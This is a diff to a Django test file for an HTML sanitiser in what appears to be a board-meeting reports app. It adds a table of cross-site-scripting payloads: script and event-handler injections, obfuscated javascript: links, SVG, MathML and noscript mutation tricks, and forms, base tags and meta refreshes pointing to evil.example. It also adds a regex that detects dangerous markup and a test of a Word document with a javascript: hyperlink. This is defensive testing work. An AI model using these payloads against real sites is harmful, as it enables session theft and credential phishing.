@@ -1,4 +1,6 @@
 import io
+import re
+import zipfile
 
 import pytest
 from django.core.exceptions import ValidationError
@@ -12,7 +14,10 @@ from core.html import (
     sanitise_html,
     text_to_html,
 )
+from meetings.models import Report
+from meetings.services.reports import report_create
 from tests.documents import word_document
+from tests.factories import BoardFactory
 
 
 def test_sanitising_keeps_what_reports_need():
@@ -123,3 +128,98 @@ def test_a_word_document_whose_text_cannot_be_read_is_refused():
         html_from_word_document(document)
 
     assert refused.value.messages == [WORD_DOCUMENT_UNREADABLE]
+
+
+# Each attack on stored rich text, and what is left of it.
+ATTACKS = {
+    "script": ("<p>Purpose</p><script>steal()</script>", "<p>Purpose</p>"),
+    "event handler": ('<p onclick="steal()">Purpose</p>', "<p>Purpose</p>"),
+    "event handler on a link": (
+        '<a href="https://example.org" onmouseover="steal()">Link</a>',
+        '<a href="https://example.org" rel="noopener noreferrer">Link</a>',
+    ),
+    "image error handler": ('<img src=x onerror="steal()">', ""),
+    "javascript link": ('<a href="javascript:steal()">Link</a>', None),
+    "javascript link, mixed case": ('<a href="JaVaScRiPt:steal()">Link</a>', None),
+    "javascript link, entity": ('<a href="&#106;avascript:steal()">Link</a>', None),
+    "javascript link, named entity": ('<a href="javascript&colon;steal()">Link</a>', None),
+    "javascript link, tab": ('<a href="java\tscript:steal()">Link</a>', None),
+    "javascript link, space": ('<a href=" javascript:steal()">Link</a>', None),
+    "vbscript link": ('<a href="vbscript:steal()">Link</a>', None),
+    "data link": (
+        '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">Link</a>',
+        None,
+    ),
+    "svg": ('<svg onload="steal()"><a xlink:href="javascript:steal()">Link</a></svg>', ""),
+    "svg script in a table": (
+        "<table><caption><svg><script>steal()</script></svg></caption></table>",
+        "<table><caption></caption></table>",
+    ),
+    "mathml": (
+        "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph>"
+        "</table></mtext></math>",
+        "",
+    ),
+    "style attribute": ('<p style="background:url(javascript:steal())">Text</p>', "<p>Text</p>"),
+    "style element": ('<style>@import "https://evil.example/x.css";</style><p>Text</p>', None),
+    "iframe": ('<iframe srcdoc="<script>steal()</script>"></iframe>', ""),
+    "object": ('<object data="data:text/html,<script>steal()</script>"></object>', ""),
+    "embed": ('<embed src="javascript:steal()">', ""),
+    "form": ('<form action="https://evil.example"><input name="password"></form>', ""),
+    "base": ('<base href="https://evil.example/">', ""),
+    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ""),
+    "noscript mutation": ('<noscript><p title="</noscript><img src=x onerror=steal()>">', None),
+    "comment": ("<p>a<!-- <script>steal()</script> -->b</p>", "<p>ab</p>"),
+}
+DANGEROUS = re.compile(
+    r"<(script|svg|math|style|iframe|object|embed|form|input|base|meta|img|link)\b"
+    r"|\son\w+\s*=|javascript:|vbscript:|data:|style=",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize(("html", "left"), ATTACKS.values(), ids=ATTACKS.keys())
+def test_each_attack_on_rich_text_is_taken_out(html, left):
+    sanitised = sanitise_html(html)
+
+    assert not DANGEROUS.search(sanitised), sanitised
+    if left is not None:
+        assert sanitised == left
+    # Sanitising what was sanitised changes nothing: no markup comes back to life when a page
+    # sanitises stored text again.
+    assert sanitise_html(sanitised) == sanitised
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("html", "left"), ATTACKS.values(), ids=ATTACKS.keys())
+def test_a_reports_rich_text_is_saved_without_the_attack(html, left):
+    report = report_create(
+        board=BoardFactory(),
+        fields={"title": "Attack", **dict.fromkeys(Report.RICH_TEXT_FIELDS, html)},
+    )
+
+    report.refresh_from_db()
+    for name in Report.RICH_TEXT_FIELDS:
+        assert not DANGEROUS.search(getattr(report, name)), name
+
+
+def test_a_word_documents_script_links_are_taken_out():
+    relationships = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId9" TargetMode="External" Target="javascript:steal()" Type="http://'
+        'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+        "</Relationships>"
+    )
+    document_xml = (
+        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        '<w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>Read more</w:t></w:r></w:hyperlink>'
+        "</w:p></w:body></w:document>"
+    )
+    buffer = io.BytesIO(word_document(document_xml=document_xml))
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("word/_rels/document.xml.rels", relationships)
+    buffer.seek(0)
+
+    assert html_from_word_document(buffer) == '<p><a rel="noopener noreferrer">Read more</a></p>'
